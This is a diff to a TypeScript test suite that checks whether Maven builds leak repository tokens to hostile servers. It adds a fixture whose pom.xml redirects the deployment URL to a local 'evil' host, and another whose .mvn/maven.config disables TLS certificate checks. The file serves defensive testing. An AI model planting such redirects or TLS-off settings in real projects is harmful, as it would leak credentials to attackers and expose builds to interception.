@@ -3,7 +3,7 @@ import { mkdir, readFile, writeFile } from "node:fs/promises";
 import { dirname, join } from "node:path";
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
 import { putParent, settingsXml, writeSettings } from "../fixtures/maven-project.ts";
-import { LIBS_TOKEN, makeMavenHome, startMavenServers, type MavenHome, type MavenServers } from "../fixtures/maven-run.ts";
+import { LIBS_TOKEN, makeMavenHome, OTHER_TOKEN, startMavenServers, type MavenHome, type MavenServers } from "../fixtures/maven-run.ts";
 import { debianVersion, mavenMissing, MAVENS } from "../fixtures/maven.ts";
 
 let servers: MavenServers;
@@ -37,6 +37,8 @@ interface Hostile {
   readonly argv?: readonly string[];
   /** Where the user's settings lead all repositories, so that there are plugins. */
   readonly mirrored?: true;
+  /** Whether there is a token for the whole host as well. */
+  readonly wide?: true;
   /** `none`: Maven does not get so far. */
   readonly stranger: "asked" | "none";
   /** Whether Maven gets the token at all. */
@@ -95,6 +97,12 @@ const HOSTILE: readonly Hostile[] = [
     argv: ["deploy"], mirrored: true, stranger: "asked", given: true,
   },
   {
+    // The property that toolkey sets, with more behind it: another host, unless the URL ends its own.
+    what: "our deployment URL with more behind it",
+    files: () => ({ "pom.xml": project(`${distribution("acme", servers.acme.origin)}<build><plugins>${plugin("install")}${plugin("deploy", `<configuration><altReleaseDeploymentRepository>\${altSnapshotDeploymentRepository}@${servers.evil.origin.replace("https://", "")}/libs</altReleaseDeploymentRepository></configuration>`)}</plugins></build>`) }),
+    argv: ["deploy"], mirrored: true, wide: true, stranger: "none", given: true,
+  },
+  {
     what: "a deployment by .mvn/maven.config",
     files: () => ({
       "pom.xml": project(`${distribution("acme", libs)}${plugins()}`),
@@ -147,6 +155,14 @@ const HOSTILE: readonly Hostile[] = [
     stranger: "none", given: false,
   },
   {
+    what: "TLS off by -define=…",
+    files: () => ({
+      "pom.xml": project(`${PARENT}<repositories>${repository("acme", libs)}</repositories>`),
+      ".mvn/maven.config": "-define=maven.wagon.http.ssl.insecure=true\n-define=maven.wagon.http.ssl.allowall=true\n",
+    }),
+    stranger: "none", given: false,
+  },
+  {
     what: "certificates of its own by .mvn/jvm.config",
     files: () => ({
       "pom.xml": project(`${PARENT}<repositories>${repository("acme", libs)}</repositories>`),
@@ -170,7 +186,8 @@ const HOSTILE: readonly Hostile[] = [
 ];
 
 describe.each(MAVENS)("Maven %s", (version) => {
-  test.skipIf(mavenMissing(version)).each(HOSTILE)("$what", async ({ files, argv = ["validate"], mirrored, stranger, given }) => {
+  test.skipIf(mavenMissing(version)).each(HOSTILE)("$what", async ({ files, argv = ["validate"], mirrored, wide, stranger, given }) => {
+    if (wide === true) await home.add(servers.acme.origin, OTHER_TOKEN, "bob");
     if (mirrored === true) await writeSettings(home.directory, { mirrors: [{ id: "acme", url: libs, mirrorOf: "*" }] });
     await writeFiles(files());
     const before = servers.evil.arrivals.length + servers.plainEvil.arrivals.length;
@@ -207,7 +224,7 @@ describe.each(MAVENS)("Maven %s", (version) => {
 
 /** What came to the strangers with the token. */
 function tokensAstray() {
-  return [...servers.evil.arrivalsWith(LIBS_TOKEN), ...servers.plainEvil.arrivalsWith(LIBS_TOKEN)];
+  return [servers.evil, servers.plainEvil].flatMap((stranger) => [LIBS_TOKEN, OTHER_TOKEN].flatMap((token) => stranger.arrivalsWith(token)));
 }
 
 /** The name that the merged settings have for the private repository. */
